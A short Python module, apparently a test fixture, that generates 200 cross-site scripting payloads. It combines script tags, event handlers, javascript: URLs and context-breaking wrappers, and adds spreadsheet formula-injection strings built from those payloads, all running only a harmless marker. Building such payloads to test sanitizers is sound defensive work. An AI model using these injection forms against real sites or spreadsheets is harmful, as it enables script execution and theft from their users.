"""200 payloads that run in a page which takes words for markup, and formulas for spreadsheets."""

from collections.abc import Iterator

RUN = "window.__ran=1"
FORMS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<iframe src=javascript:parent.{0}>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    'https://a.example/"onmouseover={0}//',
    "https://a.example/'><img src=x onerror={0}>",
    "[x](javascript:{0})",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><img src=x onerror={0}>",
    "<style>@import 'javascript:{0}'</style>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<template><script>{0}</script></template>",
    "${{{0}}}",
)
WRAPS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "</option></select>{0}",
    "-->{0}",
    "<!--{0}",
    "</style>{0}",
    "]]>{0}",
    "\u202e{0}",
)
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
"""With what a cell begins that a spreadsheet computes."""


def payloads() -> Iterator[str]:
    """Each form in each wrap: 200."""
    for form in FORMS:
        for wrap in WRAPS:
            yield wrap.format(form.format(RUN))


def formulas() -> Iterator[str]:
    """Each payload behind a sign with which a formula begins."""
    for number, payload in enumerate(payloads()):
        yield f"{SIGNS[number % len(SIGNS)]}HYPERLINK({payload})"
